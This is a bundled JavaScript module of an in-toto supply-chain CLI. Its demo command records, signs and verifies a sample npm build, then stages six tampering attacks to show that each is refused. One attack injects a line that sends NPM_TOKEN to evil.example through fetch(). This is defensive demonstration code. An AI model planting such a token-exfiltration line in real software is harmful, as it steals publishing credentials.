import { n as loadPrivateKey, t as PASSPHRASE_VARIABLE } from "./key-signer.mjs";
import { r as DirectoryLinkStore, t as failureLines } from "./verdict-text.mjs";
import { c as InTotoError, o as escapeUntrusted, s as quoteUntrusted } from "./base.mjs";
import { E as encodeRunBinding, M as splitWords, a as verifySupplyChain, i as withProducts, r as encodeLayout, tt as jsonObject, ut as linkFileName, x as signMetadata, y as keyIdOf } from "./intoto.mjs";
import { i as DEFAULT_EXCLUDES, t as Recorder } from "./record-artifacts.mjs";
import { n as readPublicKeyFile, r as writeKeyPair } from "./key-files.mjs";
import { r as runCommand, t as byproductsOf } from "./run-command.mjs";
import { i as endStep, n as defaultSettings, t as beginStep } from "./step-recording.mjs";
import { c as print, i as usage, s as pathFrom, t as EXIT } from "./command.mjs";
import { t as buildLayout } from "./build-layout.mjs";
import { t as generateKey } from "./generate-key.mjs";
import { n as writeLink } from "./write-link.mjs";
import { t as NODE_PORTS } from "./node-ports.mjs";
import { basename, dirname, join, resolve } from "node:path";
import { randomBytes } from "node:crypto";
import { appendFileSync, copyFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { fileURLToPath } from "node:url";
import { Buffer } from "node:buffer";
import { PassThrough } from "node:stream";
// src/cli/demo/attacks.ts
const YEAR = 316224e5;
const ATTACKS = [
	{
		name: "a source file is changed between checkout and build",
		expected: "RULE_ARTIFACT_DISALLOWED",
		tamper: async ({ pipeline, checkedOut, run }, { links }) => {
			appendFileSync(join(checkedOut, "src/index.mjs"), "\nfetch(\"https://evil.example/?\" + process.env.NPM_TOKEN)\n");
			await pipeline.stage("build", [
				"npm",
				"run",
				"build"
			], run, checkedOut, links);
			return { artifact: "src/index.mjs" };
		}
	},
	{
		name: "the package is replaced after packaging",
		expected: "PRODUCT_DIFFERS",
		tamper: async (_good, { products }) => {
			const [file = ""] = _good.products;
			const path = join(products, basename(file));
			const bytes = readFileSync(path);
			bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) ^ 1;
			writeFileSync(path, bytes);
			return { artifact: basename(file) };
		}
	},
	{
		name: "the tests are signed by somebody who may not run them",
		expected: "LINK_THRESHOLD",
		tamper: async ({ pipeline, links: { test } }, { links }) => {
			const name = fileOf(pipeline, "test");
			const forged = pipeline.sign(test, "build", links);
			writeFileSync(join(links, name), readFileSync(forged));
			rmSync(forged);
			return { artifact: name };
		}
	},
	{
		name: "the tests are left out",
		expected: "LINK_MISSING",
		tamper: async ({ pipeline }, { links }) => {
			const name = fileOf(pipeline, "test");
			rmSync(join(links, name));
			return { artifact: name };
		}
	},
	{
		name: "the layout has expired",
		expected: "LAYOUT_EXPIRED",
		tamper: async ({ pipeline }, { layout }) => {
			pipeline.writeLayout(layout, Date.now() - 2 * YEAR);
			return { artifact: basename(layout) };
		}
	},
	{
		name: "the tests are those of an earlier run",
		expected: "LINKS_OF_DIFFERENT_RUNS",
		tamper: async ({ pipeline, links: { test } }, { links }) => {
			const earlier = encodeRunBinding({
				id: "local-000000000001",
				commit: "0".repeat(40)
			});
			const environment = jsonObject({
				...Object.fromEntries(test.environment),
				run: earlier
			});
			pipeline.sign({
				...test,
				environment
			}, "test", links);
			return { artifact: fileOf(pipeline, "test") };
		}
	}
];
/** Tries every attack on a copy of its own; `onResult` is called after each. */
async function tryAttacks(good, directory, onResult) {
	const results = [];
	for (const [index, { name, expected, tamper }] of ATTACKS.entries()) {
		const copy = join(directory, `attack-${index + 1}`);
		const { pipeline } = good;
		cpSync(pipeline.links, join(copy, "links"), { recursive: true });
		cpSync(pipeline.products, join(copy, "product"), { recursive: true });
		cpSync(pipeline.layoutPath, join(copy, "root.layout"));
		const attempt = {
			layout: join(copy, "root.layout"),
			links: join(copy, "links"),
			products: join(copy, "product")
		};
		const { artifact } = await tamper(good, attempt);
		const result = describeResult(name, expected, artifact, await good.verify(attempt));
		results.push(result);
		onResult(result);
	}
	return results;
}
function describeResult(name, expected, artifact, verification) {
	const failures = verification.outcome === "failed" ? verification.failures : [];
	const failure = failures.find(({ code }) => code === expected);
	return {
		name,
		refused: failure !== void 0,
		code: failure?.code ?? failures[0]?.code,
		step: failure?.step ?? stepOf(failure),
		rule: failure?.rule,
		artifact,
		message: failure === void 0 ? void 0 : [failure.message, ...failure.details.slice(0, 2)].join(" "),
		remedy: failure?.hint
	};
}
/** A failure of the whole chain is reported at its end, where the products are. */
function stepOf(failure) {
	if (failure === void 0) return void 0;
	return failure.code === "PRODUCT_DIFFERS" ? "package" : "(all)";
}
function fileOf({ layout }, stage) {
	const [keyId] = layout.steps.find(({ name }) => name === stage)?.pubkeys ?? [];
	return keyId === void 0 ? stage : linkFileName(stage, keyId);
}
// src/cli/demo/pipeline.ts
const STAGES = [
	"checkout",
	"build",
	"test",
	"package"
];
/** Files of installed packages are not part of a project. */
const EXCLUDES = [...DEFAULT_EXCLUDES, "node_modules"];
/** A new identifier of a run. */
function newRunId() {
	return `local-${randomBytes(6).toString("hex")}`;
}
/** Keys, layout, workspace and links of one pipeline. */
var Pipeline = class {
	directory;
	workspace;
	links;
	products;
	#request;
	#keys = /* @__PURE__ */ new Map();
	#owner = generateKey({ type: "ed25519" });
	layout;
	/** Makes fresh keys, and builds and signs the layout. @throws LayoutSourceError, FILE_ codes */
	constructor(request) {
		this.#request = request;
		this.directory = request.directory;
		this.workspace = join(this.directory, "workspace");
		this.links = join(this.directory, "links");
		this.products = join(this.directory, "product");
		for (const directory of [
			this.workspace,
			this.links,
			this.products,
			join(this.directory, "keys")
		]) mkdirSync(directory, { recursive: true });
		this.layout = this.#buildLayout(request.now);
		for (const [path, key] of this.#keys) writeKeyPair(join(this.directory, "keys", keyName(path)), key);
		writeKeyPair(join(this.directory, "keys", "owner"), this.#owner);
		this.writeLayout(this.layoutPath);
	}
	get layoutPath() {
		return join(this.directory, "root.layout");
	}
	get ownerKeyPath() {
		return join(this.directory, "keys", "owner.pub");
	}
	/** Signs the layout under both forms of the owner's key id, because other tools look for one or the other. */
	writeLayout(path, asOf = this.#request.now) {
		const signer = loadPrivateKey({
			pem: this.#owner.privatePem,
			source: "owner"
		});
		const signers = ["current", "legacy"].map((form) => ({
			signer,
			keyId: keyIdOf(signer.publicKey, form)
		}));
		const layout = asOf === this.#request.now ? this.layout : this.#buildLayout(asOf);
		writeFileSync(path, signMetadata({
			payload: encodeLayout(layout),
			format: "dsse",
			signers
		}));
	}
	/** A layout names keys by path; each path stands for a key that is made here, whatever file may lie there. */
	#buildLayout(now) {
		const readKey = (path) => {
			const key = this.#keys.get(path) ?? generateKey({ type: "ed25519" });
			this.#keys.set(path, key);
			return key.publicKey;
		};
		const { layoutText: text, layoutSource: source } = this.#request;
		return buildLayout({
			text,
			source,
			readKey,
			now,
			keyIdForm: "current"
		}).layout;
	}
	/** The key of the first functionary of a step. */
	#functionary(stage) {
		const [keyId] = this.layout.steps.find(({ name }) => name === stage)?.pubkeys ?? [];
		const key = [...this.#keys.values()].find(({ publicKey }) => keyIdOf(publicKey, "current") === keyId);
		if (key === void 0) throw new InTotoError("USAGE", `The layout has no step ${quoteUntrusted(stage)}.`, { hint: `The pipeline has the steps ${STAGES.join(", ")}; the layout must have the same.` });
		return key;
	}
	/** Clones the repository; the link's products are all files of the commit. */
	async checkout() {
		const { environment, repository } = this.#request;
		const head = await capture([
			"git",
			"rev-parse",
			"HEAD"
		], repository, environment);
		const run = {
			id: newRunId(),
			commit: head.trim()
		};
		return {
			link: await this.stage("checkout", [
				"git",
				"-c",
				"core.autocrlf=false",
				"clone",
				"--quiet",
				"--no-hardlinks",
				repository,
				"."
			], run),
			run
		};
	}
	/** Runs a stage in a workspace and writes its link. */
	async stage(name, command, run, workspace = this.workspace, links = this.links) {
		const { recorder, environment } = this.#request;
		const settings = {
			...defaultSettings(workspace),
			exclude: EXCLUDES
		};
		const begun = await beginStep(recorder, {
			name,
			materials: ["."],
			settings,
			run
		});
		const result = await runQuietly(command, workspace, environment);
		const after = await recorder.record({
			...settings,
			paths: ["."]
		});
		const products = name === "package" ? [...after.artifacts].filter(([path, digests]) => begun.materials.get(path) !== digests).map(([path]) => path) : ["."];
		if (products.length === 0) throw new InTotoError("COMMAND_FAILED", `The package command ${quoteUntrusted(command.join(" "))} made no file.`);
		const link = await endStep(recorder, begun, {
			products,
			settings,
			command: [...command],
			byproducts: result
		});
		this.sign(link, name, links);
		return link;
	}
	/** Writes a link, signed by the functionary of a step. */
	sign(link, functionaryOf, links = this.links) {
		const signer = loadPrivateKey({
			pem: this.#functionary(functionaryOf).privatePem,
			source: functionaryOf
		});
		return writeLink({
			link,
			directory: links,
			format: "dsse",
			signing: {
				signer,
				keyId: keyIdOf(signer.publicKey, "current")
			}
		});
	}
	/** Copies the products of the last stage to where they are kept. */
	keepProducts(link) {
		return [...link.products.keys()].map((path) => {
			const target = join(this.products, path);
			mkdirSync(dirname(target), { recursive: true });
			copyFileSync(join(this.workspace, path), target);
			return target;
		});
	}
};
function keyName(path) {
	return (path.split(/[/\\]/).at(-1) ?? path).replace(/\.pub$/, "");
}
/** npm and node set variables for their children that would change how another npm or node behaves. */
function cleanEnvironment(environment) {
	return Object.fromEntries(Object.entries(environment).filter(([name]) => !/^(npm_|NODE_TEST_|NODE_OPTIONS$|INIT_CWD$|GIT_DIR$|GIT_WORK_TREE$|GIT_INDEX_FILE$)/i.test(name)));
}
/** Runs a command and shows what it prints only when it fails. */
async function runQuietly(command, directory, environment) {
	const output = new PassThrough();
	const chunks = [];
	output.on("data", (chunk) => chunks.push(chunk));
	const [program = "", ...words] = process.platform === "win32" ? [
		"cmd",
		"/d",
		"/s",
		"/c",
		...command
	] : command;
	const result = await runCommand({
		command: [program, ...words],
		directory,
		environment: cleanEnvironment(environment),
		withheld: [PASSPHRASE_VARIABLE],
		streams: "pass",
		stdout: output,
		stderr: output
	});
	if (result.ended === "exited" && result.status === 0) return byproductsOf(result);
	const tail = Buffer.concat(chunks).toString("utf8").trimEnd().split("\n").slice(-15);
	throw new InTotoError("COMMAND_FAILED", `The command ${quoteUntrusted(command.join(" "))} failed:\n${tail.map((line) => `    ${escapeUntrusted(line)}`).join("\n")}`, { hint: "Mend what the command reports." });
}
async function capture(command, directory, environment) {
	const output = new PassThrough();
	output.resume();
	const result = await runCommand({
		command,
		directory,
		environment: cleanEnvironment(environment),
		withheld: [PASSPHRASE_VARIABLE],
		streams: "record",
		stdout: output,
		stderr: output
	});
	if (result.ended === "exited" && result.status === 0) return result.stdout;
	throw new InTotoError("COMMAND_FAILED", `The command ${quoteUntrusted(command.join(" "))} failed in ${quoteUntrusted(directory)}.`, { hint: "The project must be a git repository with at least one commit." });
}
// src/cli/commands/demo.ts
const demo = {
	spec: {
		name: "demo",
		summary: "record, verify and attack a real project, in ten seconds",
		description: "Takes a small npm package from git through checkout, build, test and package with fresh keys, verifies the links\nagainst a signed layout, then tampers with the evidence in six ways and shows how each is refused.\nWith --project it records and verifies your own project (a git repository) and attacks nothing.",
		flags: [
			{
				long: "project",
				takes: "one",
				value: "DIR",
				help: "a git repository to take in place of the example"
			},
			{
				long: "layout",
				takes: "one",
				value: "FILE",
				help: "its layout source, with the steps checkout, build, test, package"
			},
			{
				long: "build",
				takes: "one",
				value: "COMMAND",
				help: "how it is built"
			},
			{
				long: "test",
				takes: "one",
				value: "COMMAND",
				help: "how it is tested"
			},
			{
				long: "package",
				takes: "one",
				value: "COMMAND",
				help: "how it is packaged; the files that this makes are the products"
			},
			{
				long: "keep",
				takes: "one",
				value: "DIR",
				help: "leave layout, keys, links and product there"
			},
			{
				long: "json",
				takes: "nothing",
				help: "print the result as JSON"
			}
		],
		examples: ["in-toto-actions demo", "in-toto-actions demo --project . --layout .in-toto/layout.yml --build \"npm run build\" --test \"npm test\" --package \"npm pack\""]
	},
	run: async (parsed, console) => {
		const keep = parsed.one("keep");
		const keepAt = keep === void 0 ? void 0 : emptyDirectory(pathFrom(console, keep));
		const work = mkdtempSync(join(tmpdir(), "in-toto-demo-"));
		const recorder = new Recorder();
		try {
			return await runDemo({
				parsed,
				console,
				work,
				recorder,
				keepAt
			});
		} finally {
			await recorder.close();
			rmSync(work, {
				recursive: true,
				force: true
			});
		}
	}
};
async function runDemo(context) {
	const { parsed, console, work, recorder, keepAt } = context;
	const json = parsed.has("json");
	const say = (text) => {
		if (!json) print(console, text);
	};
	const request = await pipelineRequest(context);
	const pipeline = new Pipeline(request);
	const stages = [];
	const report = (name, start, link) => {
		const stage = {
			name,
			materials: link.materials.size,
			products: link.products.size,
			seconds: Math.round((performance.now() - start) / 100) / 10
		};
		stages.push(stage);
		say(`  ${name.padEnd(9)} ${stage.materials} materials, ${stage.products} products, signed (${stage.seconds} s)`);
		return link;
	};
	say("The pipeline, each stage recorded and signed by its own key:");
	let start = performance.now();
	const { link: checkout, run } = await pipeline.checkout();
	report("checkout", start, checkout);
	const checkedOut = join(work, "checked-out");
	if (!parsed.has("project")) cpSync(pipeline.workspace, checkedOut, { recursive: true });
	const links = /* @__PURE__ */ new Map();
	for (const stage of STAGES.slice(1)) {
		start = performance.now();
		links.set(stage, report(stage, start, await pipeline.stage(stage, request.commands[stage], run)));
	}
	const products = pipeline.keepProducts(links.get("package"));
	start = performance.now();
	const verify = async ({ layout, links: directory, products: files }) => verifyWithProducts(pipeline, layout, directory, files, recorder, console.now());
	const verification = await verify({
		layout: pipeline.layoutPath,
		links: pipeline.links,
		products: pipeline.products
	});
	stages.push({
		name: "verify",
		materials: checkout.products.size,
		products: products.length,
		seconds: Math.round((performance.now() - start) / 100) / 10
	});
	say(`  verify    ${pipeline.layout.steps.length} links against the signed layout`);
	say("");
	if (verification.outcome === "passed") {
		say("PASSED: the supply chain verifies. Final products:");
		for (const [path, digests] of verification.summary.products) say(`  ${escapeUntrusted(path)}  ${escapeUntrusted(digests)}`);
	} else {
		say("FAILED: the supply chain does not verify.");
		for (const failure of verification.failures) for (const line of failureLines(failure)) say(`  ${line}`);
	}
	const attacks = parsed.has("project") || verification.outcome === "failed" ? [] : await attack(context, {
		pipeline,
		run,
		links,
		checkedOut,
		products,
		verify
	}, say);
	if (keepAt !== void 0) keepEvidence(pipeline, keepAt, say);
	if (json) print(console, JSON.stringify({
		stages,
		verdict: verification.outcome,
		attacks
	}, null, 2));
	const allRefused = attacks.every(({ refused }) => refused);
	if (!parsed.has("project") && !json) say(allRefused ? "All six attacks were refused." : "An attack was NOT refused.");
	return verification.outcome === "passed" && allRefused ? EXIT.yes : EXIT.no;
}
async function attack({ work }, good, say) {
	say("");
	say("Now the same evidence, tampered with in six ways:");
	const [build, test] = [good.links.get("build"), good.links.get("test")];
	return tryAttacks({
		...good,
		links: {
			build,
			test
		}
	}, work, (result) => {
		say("");
		say(`${result.refused ? "REFUSED" : "NOT REFUSED"}: ${result.name}`);
		say(`  check:    ${result.code ?? "none"}${result.rule === void 0 ? "" : ` by the rule ${result.rule}`}`);
		say(`  step:     ${result.step ?? "none"}`);
		say(`  artifact: ${escapeUntrusted(result.artifact)}`);
		if (result.message !== void 0) say(`  reason:   ${result.message}`);
		if (result.remedy !== void 0) say(`  remedy:   ${result.remedy}`);
	});
}
async function verifyWithProducts(pipeline, layout, links, products, recorder, now) {
	const verification = await verifySupplyChain({
		ports: NODE_PORTS,
		layout: readFileSync(layout),
		layoutSource: basename(layout),
		layoutKeys: [readPublicKeyFile(pipeline.ownerKeyPath)],
		links: new DirectoryLinkStore(links),
		now,
		compatibility: "strict"
	});
	if (verification.outcome === "failed") return verification;
	const { artifacts } = await recorder.record({
		...defaultSettings(products),
		exclude: [],
		paths: ["."]
	});
	return withProducts(verification, artifacts);
}
async function pipelineRequest({ parsed, console, work, recorder }) {
	const directory = join(work, "pipeline");
	mkdirSync(directory);
	const common = {
		directory,
		environment: console.environment,
		recorder,
		now: console.now()
	};
	const project = parsed.one("project");
	if (project === void 0) {
		for (const flag of [
			"layout",
			"build",
			"test",
			"package"
		]) if (parsed.has(flag)) throw usage(`--${flag} goes with --project.`);
		const example = exampleProject();
		const repository = join(work, "upstream");
		await makeRepository(example, repository, console);
		const layoutPath = join(example, ".in-toto", "layout.yml");
		return {
			...common,
			repository,
			layoutText: readFileSync(layoutPath, "utf8"),
			layoutSource: "examples/greeter/.in-toto/layout.yml",
			commands: {
				build: [
					"npm",
					"run",
					"build"
				],
				test: ["npm", "test"],
				package: ["npm", "pack"]
			}
		};
	}
	const layout = parsed.required("layout");
	return {
		...common,
		repository: pathFrom(console, project),
		layoutText: readFileSync(pathFrom(console, layout), "utf8"),
		layoutSource: layout,
		commands: {
			build: splitWords(parsed.required("build")),
			test: splitWords(parsed.required("test")),
			package: splitWords(parsed.required("package"))
		}
	};
}
/** The example lies beside the bundle; it is found from the bundle, from one of its chunks and from the source. */
function exampleProject() {
	const here = dirname(fileURLToPath(import.meta.url));
	const found = [
		"..",
		"../..",
		"../../.."
	].map((up) => resolve(here, up, "examples/greeter")).find((path) => existsSync(join(path, "package.json")));
	if (found === void 0) throw new InTotoError("FILE_UNREADABLE", "The example project is missing beside the program.", { hint: "Install the program again." });
	return found;
}
async function makeRepository(source, target, console) {
	cpSync(source, target, { recursive: true });
	const identity = [
		"-c",
		"user.name=demo",
		"-c",
		"user.email=demo@example.invalid",
		"-c",
		"core.autocrlf=false",
		"-c",
		"commit.gpgsign=false"
	];
	for (const words of [
		[
			"init",
			"--quiet",
			"--initial-branch=main"
		],
		[
			...identity,
			"add",
			"--all",
			"--force"
		],
		[
			...identity,
			"commit",
			"--quiet",
			"--message=The greeter"
		]
	]) {
		const output = new PassThrough();
		output.resume();
		const result = await runCommand({
			command: ["git", ...words],
			directory: target,
			environment: cleanEnvironment(console.environment),
			withheld: [PASSPHRASE_VARIABLE],
			streams: "record",
			stdout: output,
			stderr: output
		});
		if (result.ended !== "exited" || result.status !== 0) throw new InTotoError("COMMAND_FAILED", `git ${words.at(-1)} failed: ${result.ended === "exited" ? escapeUntrusted(result.stderr) : result.ended}`, { hint: "The demo needs git 2.28 or later." });
	}
}
/** @throws FILE_EXISTS when it holds anything */
function emptyDirectory(path) {
	mkdirSync(path, { recursive: true });
	if (readdirSync(path).length > 0) throw new InTotoError("FILE_EXISTS", "The directory to keep the evidence in is not empty.", {
		at: escapeUntrusted(path),
		hint: "Name a new directory."
	});
	return path;
}
function keepEvidence(pipeline, directory, say) {
	for (const name of [
		"root.layout",
		"keys",
		"links",
		"product"
	]) cpSync(join(pipeline.directory, name), join(directory, name), { recursive: true });
	const shown = escapeUntrusted(directory);
	say("");
	say(`Kept in ${shown}. Verify it again with:`);
	say(`  in-toto-actions verify -l ${shown}/root.layout --verification-keys ${shown}/keys/owner.pub --link-dir ${shown}/links --base-path ${shown}/product -p .`);
}
export { demo };
